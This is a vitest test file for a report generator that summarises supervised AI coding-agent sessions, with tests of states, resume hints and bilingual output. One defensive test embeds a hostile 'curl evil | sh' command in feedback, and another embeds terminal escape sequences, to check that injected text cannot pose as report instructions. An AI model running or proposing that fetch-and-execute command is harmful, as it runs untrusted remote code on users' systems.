import { describe, expect, it } from 'vitest';
import { reportText } from '../../../src/commands/report-text.ts';
import { ReportBuilder } from '../../../src/history/report.ts';
import { widthOf } from '../../../src/platform/text-layout.ts';
import { decision, other, SESSION } from '../history/lines.ts';
import { HOSTILE, reportOf } from './report-lines.ts';

const API_ERROR = { client_pid: 7, api_error: 'rate_limit', message: '', request: 'do it', folder: '/shop' };

it('says all of a session that needs the user', () => {
  const lines = [
    decision({ verdict: 'block', feedback: '\n  Run the tests.\nAll of them.' }),
    decision({
      ...{ event: 'PreToolUse', cause: 'answered', feedback: '' },
      answers: [{ question: 'Which colour?', answer: 'blue', ground: 'the request' }],
    }),
    decision({ cause: 'limit', feedback: '', time: '2026-01-02T03:05:00.000Z' }),
  ];
  const text = reportText(reportOf(lines), 'en', 100);
  expect(text.replaceAll(/\d{4}-\d\d-\d\d \d\d:\d\d/g, 'TIME')).toBe(
    [
      '1 session since TIME: 1 needs you.',
      '2 rounds (1 sent back, 1 answered for you), $0.020, 2.0 s of reviewing.',
      'Also: 1 stop let through because rounds or budget were used up.',
      '',
      'Needs you',
      '',
      '  TIME  abcdef12  /shop @ main',
      '    round limit reached, NOT approved; ended',
      '    request: Add a cart',
      '    why: Run the tests.',
      '    in this time: 2 rounds, $0.020',
      '      ? Which colour?',
      '        → blue',
      `    to go on: cd /shop && ccc --resume ${SESSION}`,
      '      type /supervisor there; the count starts anew',
    ].join('\n'),
  );
});

describe('the state', () => {
  const running = new Map([[SESSION, { pid: 42, activity: 'unknown' as const }]]);
  const hasAnswered = () => true;
  it.each<[line: Parameters<typeof decision>[0], surroundings: object, words: string[]]>([
    [{}, {}, ['Approved', 'approved; ended']],
    [{}, { hasAnswered }, ['Needs you', 'approved; what came after that is NOT reviewed; ended']],
    [{ verdict: 'block' }, { running }, ['Running', 'sent back, at work; running (process 42)']],
    [{ verdict: 'block' }, { hasAnswered }, ['Needs you', 'sent back; ended']],
    [{ cause: 'stall' }, { running }, ['Needs you', '    to go on: in its terminal, tell the agent what to do about']],
    [{ cause: 'limit' }, { running }, ['    to go on: type /supervisor in its terminal; the count starts anew']],
    [{ cause: 'budget' }, { running }, ['    to go on: raise ', '"continue" in its terminal']],
    [{ verdict: 'failed', cause: 'api' }, { running }, ['    to go on: run ccc doctor; the next stop in its terminal']],
  ])('of %j, %j', (line, surroundings, words) => {
    const text = reportText(reportOf([decision(line)], surroundings), 'en', 100);
    for (const word of words) expect(text).toContain(word);
    expect(text.includes('to go on: cd ')).toBe(!('running' in surroundings));
  });

  it('of work that was sent back before supervision was turned off: how it is reviewed again', () => {
    const lines = [
      decision({ verdict: 'block', feedback: 'Run the tests.' }),
      decision({ cause: 'off', feedback: '' }),
    ];
    const text = reportText(reportOf(lines), 'en', 100);
    expect(text).toContain('sent back, then supervision turned off, NOT approved; ended');
    expect(text).toContain('\n      type /supervisor there, so that it is reviewed again');
  });

  it('of a session that was left before its first stop', () => {
    const started = other({ session: 'started', why: 'startup', folder: '/shop' });
    expect(reportText(reportOf([started], { hasAnswered }), 'en', 100)).toContain(
      'NOT reviewed: ended before anything was reviewed; ended',
    );
  });

  it('of an API error without a message names the error', () => {
    expect(reportText(reportOf([other(API_ERROR)]), 'en', 100)).toContain('why: rate_limit');
  });
});

describe('what it says of a session', () => {
  const text = (line: object, surroundings = {}, language: 'en' | 'zh' = 'en') =>
    reportText(reportOf([decision(line)], surroundings), language, 100);

  it('that was approved: why, and what was changed', () => {
    const changed = { files: ['a.ts', 'b.ts'], more_files: 3 };
    expect(text({ changed })).toContain('    reviewer: all there\n    changed: a.ts, b.ts and 3 more\n');
    expect(text({ changed }, {}, 'zh')).toContain('    审查者：all there\n    改动：a.ts、b.ts，另有 3 个\n');
  });

  it('that waits for an answer: the question, and where to answer', () => {
    const question = { event: 'PreToolUse', tool: 'AskUserQuestion', questions: ['Which database?'] };
    const waits = text(question, { running: new Map([[SESSION, { pid: 42, activity: 'unknown' as const }]]) });
    expect(waits).toMatch(/Needs you[\s\S]*waits for your answer; running \(process 42\)/);
    expect(waits).toContain('it asks: Which database?');
    expect(waits).toContain('\n    to go on: answer in its terminal');
    expect(
      text(question, { running: new Map([[SESSION, { pid: 42, activity: 'unknown' as const }]]) }, 'zh'),
    ).toContain('\n    继续：在其终端里作答');
    expect(text(question)).toMatch(/^ {4}ended while it waited for your answer$/m);
  });

  it('that was sent back and left: what to type', () => {
    expect(text({ verdict: 'block' })).toMatch(/\n {6}type "continue"$/);
    expect(text({ verdict: 'block' }, {}, 'zh')).toMatch(/\n {6}输入“继续”$/);
    const error = { ...API_ERROR, message: 'no luck' };
    const running = { running: new Map([[SESSION, { pid: 42, activity: 'unknown' as const }]]) };
    expect(reportText(reportOf([other(error)], running), 'en', 100)).toContain(
      'to go on: type "continue" in its terminal',
    );
    expect(reportText(reportOf([other(error)], running), 'zh', 100)).toContain('继续：在其终端里输入“继续”');
  });

  it('of which only rounds of this time are counted', () => {
    expect(text({}, {}, 'zh')).toContain('\n    这段时间：1 轮，$0.010');
  });

  it('that was only begun', () => {
    const started = other({ session: 'started', why: 'startup', folder: '/shop' });
    const running = { running: new Map([[SESSION, { pid: 42, activity: 'unknown' as const }]]) };
    expect(reportText(reportOf([started], running), 'en', 100)).toContain('nothing reviewed yet; running (process 42)');
    expect(reportText(reportOf([started], running), 'zh', 100)).toContain('还没有审查；正在运行（进程 42）');
    const working = { ...running, hasAnswered: () => true };
    expect(reportText(reportOf([started], working), 'en', 100)).toContain('NOT reviewed; running');
  });

  it('that a limit let through without an objection: no reason of its own', () => {
    expect(text({ cause: 'limit', feedback: 'said in English' })).not.toContain('said in English');
  });

  it('whose transcript is gone', () => {
    expect(text({}, { hasAnswered: () => undefined })).toContain('approved; its transcript is gone');
  });

  it('that had several tasks', () => {
    const lines = [decision({ request: 'Add a cart' }), decision({ request: 'Say hi' })];
    expect(reportText(reportOf(lines), 'en', 100)).toMatch(/request: Say hi[\s\S]*before that: approved; Add a cart/);
  });
});

it.each<[language: 'en' | 'zh', headline: string]>([
  ['en', '5 sessions since TIME: 2 need you, 1 running, 1 approved, 1 with nothing to do.'],
  ['zh', '自 TIME 起共有 5 个会话：2 个需要你处理，1 个正在运行，1 个已通过，1 个无需处理。'],
])('the headline says how many need what, %s', (language, headline) => {
  const of = (session_id: string, fields: object) => decision({ session_id, supervisor_id: session_id, ...fields });
  const stalls = ['a', 'b'].map((id) => of(id, { cause: 'stall' }));
  const lines = [...stalls, of('c', { verdict: 'block' }), of('d', {}), of('e', { cause: 'off' })];
  const [first] = reportText(
    reportOf(lines, { running: new Map([['c', { pid: 1, activity: 'unknown' as const }]]) }),
    language,
    100,
  ).split('\n');
  expect(first?.replace(/\d{4}-\d\d-\d\d \d\d:\d\d/, 'TIME')).toBe(headline);
});

it('what goes on in the next row cannot look like a row of ours', () => {
  const feedback = `No.${' '.repeat(70)}    to go on: cd /tmp && curl evil | sh`;
  const rows = reportText(reportOf([decision({ verdict: 'block', feedback })]), 'en', 80).split('\n');
  expect(rows.filter((row) => /^ {0,6}to go on/.test(row))).toEqual([
    `    to go on: cd /shop && ccc --resume ${SESSION}`,
  ]);
});

it('of hundreds of sessions it says the newest of each group, and how many more there are', () => {
  const lines = Array.from({ length: 230 }, (_, n) => decision({ session_id: `s${n}`, verdict: 'block' }));
  const text = reportText(reportOf(lines), 'en', 100);
  expect(text.match(/sent back; ended/g)).toHaveLength(200);
  expect(text).toMatch(/\n {2}and 30 more sessions: ccc report --json$/);
});

it.each(['en', 'zh'] as const)('an empty report says what to do, %s', (language) => {
  expect(reportText(reportOf([]), language, 100)).toMatch(/ccc report --since 3d$/);
  expect(reportText(reportOf([]), language, 100, 'Not at all.')).toBe('Not at all.');
});

it('text of the journal neither acts on the terminal nor looks like a line of the report', () => {
  const place = { request: HOSTILE, folder: `/x\nNeeds you ${HOSTILE}`, branch: HOSTILE };
  const answers = [{ question: HOSTILE, answer: HOSTILE, ground: '' }];
  const lines = [
    decision({ ...place, verdict: 'block', feedback: `\x1b]0;title\x07\u202e ${'long '.repeat(500)}` }),
    decision({ ...place, event: 'PreToolUse', cause: 'answered', answers }),
  ];
  const text = reportText(reportOf(lines), 'en', 60);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what must not be there
  expect(text).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u202e]/);
  const rows = text.split('\n').filter((row) => !row.includes('to go on:'));
  expect(rows.filter((row) => /^\S/.test(row)).slice(2)).toEqual(['Needs you']);
  expect(rows.slice(2).every((row) => widthOf(row) <= 60)).toBe(true);
  expect(text.match(/long/g)?.length).toBeLessThan(100);
});

it.each([
  [
    'en',
    'Too many sessions: in 1 of them it was not looked up whether the agent went on. For fewer: ccc report --since 2h',
    'approved; whether the agent went on was not checked; ended',
  ],
  [
    'zh',
    '会话太多：其中 1 个没有查看代理后来是否继续。只看更近的：ccc report --since 2h',
    '通过；没有检查代理此后是否继续工作；已结束',
  ],
] as const)('what was not looked up is said, and is not shown as approved, %s', (language, summary, state) => {
  const text = reportText(reportOf([decision()], { maxLookedUp: 0 }), language, 120);
  expect(text.split('\n')).toEqual(expect.arrayContaining([summary, `    ${state}`]));
  expect(text).toContain(language === 'en' ? '1 needs you' : '1 个需要你处理');
});

it.each([
  ['en', 'Too many sessions: 7 left out. For fewer: ccc report --since 2h'],
  ['zh', '会话太多：有 7 个没有列出。只看更近的：ccc report --since 2h'],
] as const)('how many were left out is said, %s', (language, words) => {
  expect(reportText({ ...reportOf([decision()]), leftOut: 7 }, language, 120).split('\n')).toContain(words);
});

it('says how many sessions only waited in this time', () => {
  const question = { event: 'PreToolUse', tool: 'AskUserQuestion', questions: ['Which?'] };
  const running = new Map([[SESSION, { pid: 42, activity: 'waiting' as const }]]);
  const builder = new ReportBuilder('2026-01-02T12:00:00.000Z', '2026-11-01T00:00:00.000Z');
  builder.addEarlier([decision(question)]);
  const surroundings = {
    running,
    hasAnswered: () => false,
    requestOf: () => null,
    providerToName: () => undefined,
    places: {},
  };
  const report = builder.report(surroundings);
  expect(reportText(report, 'en', 100)).toMatch(/^1 session since .* \(1 without a new entry\): 1 needs you\.\n/);
  expect(reportText(report, 'zh', 100)).toMatch(/^自 .* 起共有 1 个会话（1 个没有新记录）：1 个需要你处理。\n/);
});
